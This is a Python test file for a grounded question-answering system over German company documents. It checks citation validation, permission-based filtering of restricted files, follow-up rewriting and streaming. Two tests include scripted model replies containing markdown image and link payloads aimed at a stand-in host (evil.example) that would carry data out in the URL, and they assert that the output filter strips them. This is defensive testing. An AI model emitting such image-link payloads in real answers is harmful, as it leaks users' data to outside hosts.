"""The grounded answerer on a real index, with a scripted chat model standing in for the
language model: what it is shown, how its text is checked, when it is not called at all."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from wissenswerk.answering.events import AnswerEvent
from wissenswerk.answering.generative import GroundedAnswerer
from wissenswerk.answering.llm.base import ChatChunk, ChatMessage, LlmUnavailableError, Usage
from wissenswerk.answering.prompt import MARK
from wissenswerk.app import Wissenswerk
from wissenswerk.config.settings import LlmSettings

RESTRICTED = ("Gehaltsband", "Dienstwagen", "Kranich", "Falke", "Ingenieure")


class ScriptedModel:
    """A ChatModel that replies from a script and records every prompt it gets."""

    name = "scripted"
    context_size = 4096

    def __init__(self, *replies: str | Exception, usage: bool = True) -> None:
        self.replies = list(replies)
        self.calls: list[list[ChatMessage]] = []
        self.report_usage = usage

    def stream(
        self,
        messages: list[ChatMessage],
        *,
        max_tokens: int,
        temperature: float,
        stop: list[str] | None = None,
    ) -> Iterator[ChatChunk]:
        self.calls.append(list(messages))
        reply = self.replies.pop(0)
        if isinstance(reply, Exception):
            raise reply
        for i in range(0, len(reply), 7):
            yield ChatChunk(reply[i : i + 7])
        tokens_in = sum(self.count_tokens(m.content) for m in messages)
        usage = Usage(tokens_in, self.count_tokens(reply)) if self.report_usage else None
        yield ChatChunk("", usage=usage, finish_reason="stop")

    def count_tokens(self, text: str) -> int:
        return len(text.split()) + text.count(MARK)


def answerer(app: Wissenswerk, model: ScriptedModel) -> GroundedAnswerer:
    return GroundedAnswerer(
        app.search, app.analyzer, model, LlmSettings(max_tokens=200), app.settings.answering
    )


def prompt_text(model: ScriptedModel) -> str:
    return "\n".join(m.content for call in model.calls for m in call)


def test_citations_are_validated_and_mapped_to_the_passages(app: Wissenswerk) -> None:
    model = ScriptedModel(
        f"Die{MARK}Kilometerpauschale beträgt 0,35 € je Kilometer [1]. Das gilt seit 2020 [9]."
    )
    answer = answerer(app, model).ask("Wie hoch ist die Kilometerpauschale?", "anna")
    assert answer.mode == "generated" and answer.found
    assert answer.answer == (
        "Die Kilometerpauschale beträgt 0,35 € je Kilometer [1]. Das gilt seit 2020."
    )
    [citation] = answer.citations
    assert (citation.number, citation.path) == (1, "Allgemein/Reisekostenrichtlinie_2025.md")
    assert citation.quote == "Die Kilometerpauschale beträgt 0,35 € je Kilometer."
    assert "Quellenangabe [9] entfernt: Eine solche Quelle gab es nicht." in answer.notes
    # The older policy was left out for the newer one, and the answer says so.
    assert any("Reisekostenrichtlinie_2023.md" in note for note in answer.notes)
    assert answer.model == "scripted"
    assert answer.usage is not None
    assert answer.usage["tokens_out"] == model.count_tokens(
        f"Die{MARK}Kilometerpauschale beträgt 0,35 € je Kilometer [1]. Das gilt seit 2020 [9]."
    )
    assert answer.usage["tokens_in"] == sum(model.count_tokens(m.content) for m in model.calls[0])
    assert answer.usage["latency_ms"] >= 0


def test_the_model_sees_marked_sources_and_nothing_the_user_may_not_read(
    app: Wissenswerk,
) -> None:
    question = "Wie hoch ist die Kilometerpauschale?"
    anna = ScriptedModel("Die Kilometerpauschale beträgt 0,35 € [1].")
    answer = answerer(app, anna).ask(question, "anna")
    system, user = anna.calls[0]
    assert system.role == "system" and "Es gibt nur die Quellen 1 bis 1." in system.content
    assert f"Die{MARK}Kilometerpauschale{MARK}beträgt{MARK}0,35{MARK}€" in user.content
    assert user.content.endswith(f"Frage: {question}")
    for word in RESTRICTED:
        assert word not in prompt_text(anna)
        assert word not in answer.answer + "".join(c.quote for c in answer.citations)
    # The same question from HR staff does bring the salary document: the check is real.
    mia = ScriptedModel("Die Kilometerpauschale für Dienstwagen entfällt [2].")
    answerer(app, mia).ask(question, "mia")
    assert "Dienstwagen" in prompt_text(mia)


def test_without_evidence_the_model_is_not_called(app: Wissenswerk) -> None:
    model = ScriptedModel()
    answer = answerer(app, model).ask("Wie heißt der Hund des Hausmeisters?", "anna")
    assert model.calls == []
    assert not answer.found and answer.citations == []
    assert answer.answer.startswith("Dazu habe ich in den Dokumenten, die Sie lesen dürfen")
    assert answer.model is None and answer.usage is None
    events = list(answerer(app, model).stream("What is the name of the janitor's dog?", "anna"))
    assert [e.kind for e in events] == ["status", "delta", "done"]
    assert events[1].text.startswith("I found nothing in the documents you may read")
    assert events[-1].usage is None
    assert model.calls == []


def test_restricted_documents_are_no_evidence(app: Wissenswerk) -> None:
    model = ScriptedModel()
    answer = answerer(app, model).ask("Wer übernimmt die Kranich GmbH?", "anna")
    assert model.calls == [] and not answer.found


HISTORY = [
    ChatMessage("user", "Wie hoch ist die Kilometerpauschale?"),
    ChatMessage("assistant", "Sie beträgt 0,35 € je Kilometer [1]."),
]


def test_follow_ups_are_rewritten_before_retrieval(app: Wissenswerk) -> None:
    model = ScriptedModel(
        "Wie viel wird für Übernachtungen erstattet?",
        "Übernachtungen werden bis 140 € erstattet [1].",
    )
    answer = answerer(app, model).ask("Und wie viel bei Übernachtungen?", "anna", HISTORY)
    rewrite, generate = model.calls
    assert rewrite[1].content.endswith(
        "Letzte Frage: Und wie viel bei Übernachtungen?\n\nEigenständige Frage:"
    )
    assert generate[1].content.endswith("Frage: Wie viel wird für Übernachtungen erstattet?")
    assert (
        answer.found and answer.citations[0].quote == "Übernachtungen werden bis 140 € erstattet."
    )
    # Both calls are accounted.
    assert answer.usage is not None
    assert answer.usage["tokens_in"] == sum(
        model.count_tokens(m.content) for call in model.calls for m in call
    )


def test_a_failed_rewrite_falls_back_to_the_concatenated_questions(app: Wissenswerk) -> None:
    model = ScriptedModel(
        LlmUnavailableError("The model server at http://127.0.0.1:9 cannot be reached."),
        "Sie beträgt 0,35 € je Kilometer [1].",
    )
    answer = answerer(app, model).ask("Und je Kilometer?", "anna", HISTORY)
    assert model.calls[1][1].content.endswith(
        "Frage: Wie hoch ist die Kilometerpauschale? Und je Kilometer?"
    )
    assert answer.found


def test_streaming_sends_checked_pieces_whose_join_is_the_answer(app: Wissenswerk) -> None:
    reply = (
        f"Die{MARK}Kantine öffnet um 11:30 Uhr [1][4]. Das Menü wechselt täglich [1]. "
        "Siehe ![x](https://evil.example/p.png?d=Kantine) dort.\n- Punkt [9]\n"
    )
    events = list(answerer(app, ScriptedModel(reply)).stream("Wann öffnet die Kantine?", "anna"))
    kinds = [e.kind for e in events]
    assert kinds[:2] == ["status", "status"]  # searching, generating
    assert kinds[-2:] == ["citations", "done"]
    deltas = [e.text for e in events if e.kind == "delta"]
    # Sentence by sentence, each already checked: no invented [4] or [9], no image, ever.
    assert deltas[:2] == [
        "Die Kantine öffnet um 11:30 Uhr [1]. ",
        "Das Menü wechselt täglich [1]. ",
    ]
    assert not any("evil.example" in d or "[4]" in d or "[9]" in d for d in deltas)
    done: AnswerEvent = events[-1]
    assert done.answer is not None
    assert "".join(deltas).strip() == done.answer.answer
    assert done.answer.answer.endswith("Siehe \\[Bild entfernt\\] dort.\n- Punkt")
    assert events[-2].citations == done.answer.citations
    assert done.usage is not None and done.answer.usage is not None
    assert done.usage.completion_tokens == done.answer.usage["tokens_out"]


def test_links_and_images_in_the_output_are_removed(app: Wissenswerk) -> None:
    model = ScriptedModel(
        "Die Kantine öffnet um 11:30 Uhr [1]. ![x](https://evil.example/p.png?d=Kantine) "
        "[mehr](https://evil.example/more)"
    )
    answer = answerer(app, model).ask("Wann öffnet die Kantine?", "anna")
    assert "evil.example" not in answer.answer
    assert answer.answer.startswith("Die Kantine öffnet um 11:30 Uhr [1].")
    assert any("aus der Antwort entfernt" in note for note in answer.notes)


def test_unsupported_and_missing_citations_are_flagged(app: Wissenswerk) -> None:
    model = ScriptedModel("Der Menüplan kommt von der Geschäftsleitung [1].")
    answer = answerer(app, model).ask("Wann öffnet die Kantine?", "anna")
    assert any(note.startswith("Prüfen: Quelle [1] enthält") for note in answer.notes)
    uncited = answerer(app, ScriptedModel("Um halb zwölf.")).ask("Wann öffnet die Kantine?", "anna")
    assert not uncited.found and uncited.citations == []
    assert "Die Antwort nennt keine gültige Quelle; bitte mit Vorsicht lesen." in uncited.notes


def test_usage_is_counted_when_the_backend_reports_none(app: Wissenswerk) -> None:
    model = ScriptedModel("Die Kantine öffnet um 11:30 Uhr [1].", usage=False)
    answer = answerer(app, model).ask("Wann öffnet die Kantine?", "anna")
    assert answer.usage is not None and answer.usage["estimated"] == 1
    assert answer.usage["tokens_out"] == 7


@pytest.mark.parametrize("question", ["Wann öffnet die Kantine?", "Wie heißt der Hund?"])
def test_extractive_answers_stream_the_same_events(app: Wissenswerk, question: str) -> None:
    events = list(app.answerer.stream(question, "anna"))
    answer = app.answerer.ask(question, "anna")
    assert [e.kind for e in events] == ["status"] + ["delta"] * len(answer.answer.split("\n")) + [
        "citations",
        "done",
    ]
    assert "".join(e.text for e in events if e.kind == "delta") == answer.answer
    assert events[-1].answer == answer
    assert events[-2].citations == answer.citations
